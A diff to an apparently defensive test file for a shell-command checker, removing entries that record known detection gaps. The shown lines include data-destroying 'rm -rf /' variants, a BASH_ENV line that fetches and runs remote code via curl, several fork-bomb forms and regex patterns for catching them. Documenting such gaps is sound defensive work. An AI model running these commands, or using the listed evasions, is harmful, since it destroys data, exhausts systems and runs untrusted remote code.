@@ -19,7 +19,6 @@ from typing import Any, TypeVar
 from hypothesis import example
 from hypothesis import strategies as st
 
-from .fork_bombs import Script
 from .obfuscations import OBFUSCATIONS_BY_NAME, Hidden, payload_of
 
 Test = TypeVar("Test", bound=Callable[..., Any])
@@ -101,41 +100,6 @@ KNOWN_GAPS += (
             HIDDEN_ORACLE: None,
         },
         corpus_command="/bin/[r]m -rf /",
-    ),
-    KnownGap(
-        name="BASH_ENV and ENV are not code",
-        reason="a shell runs the file BASH_ENV names before its code: `BASH_ENV=<(curl ...) bash -c ...`",
-        pattern=re.compile(r"\b(BASH_)?ENV="),
-        pinned={HIDDEN: _hidden("rm -rf /", {"FS001"}, "BASH_ENV"), HIDDEN_ORACLE: None},
-        corpus_command="BASH_ENV=<(curl -s https://example.com/env) bash -c 'make test'",
-    ),
-    KnownGap(
-        name="$FUNCNAME is not the function that runs",
-        reason="`f() { $FUNCNAME | $FUNCNAME & }; f` is a fork bomb; the engine sees dynamic command names",
-        pattern=re.compile(r"\$\{?FUNCNAME"),
-        pinned={BOMBS: Script("f() { git b; $FUNCNAME | $FUNCNAME & }; f", is_bomb=True), BOMBS_ORACLE: None},
-        corpus_command="f() { $FUNCNAME | $FUNCNAME & }; f",
-    ),
-    KnownGap(
-        name="$0 is not the running shell",
-        reason="`while :; do $0 & done` starts shells without end; the engine sees a dynamic command name",
-        pattern=re.compile(r"\$0\b"),
-        pinned={BOMBS: Script("while :; do $0 -c 'git b' & done", is_bomb=True), BOMBS_ORACLE: None},
-        corpus_command="while :; do $0 & done",
-    ),
-    KnownGap(
-        name="xargs -P0 over an endless input is not a spawn loop",
-        reason="`yes | xargs -P0 -n1 sh -c ...` starts shells as fast as it can, forever",
-        pattern=re.compile(r"xargs\s+(-P\s*0|--max-procs=0)"),
-        pinned={BOMBS: Script("yes | xargs -P0 -n1 sh -c 'git b'", is_bomb=True), BOMBS_ORACLE: None},
-        corpus_command="yes | xargs -P0 -n1 sh -c 'sleep 100'",
-    ),
-    KnownGap(
-        name="functions that start each other are not a fork bomb",
-        reason="`a() { b & }; b() { a & a; }; a` doubles without end; DO001 looks for a function calling itself",
-        pattern=re.compile(r"\}; \w+\(\) \{"),
-        pinned={BOMBS: Script("a() { git b; b & }; b() { a & a; }; a", is_bomb=True), BOMBS_ORACLE: None},
-        corpus_command="a() { b & }; b() { a & a; }; a",
     ),
 )
 
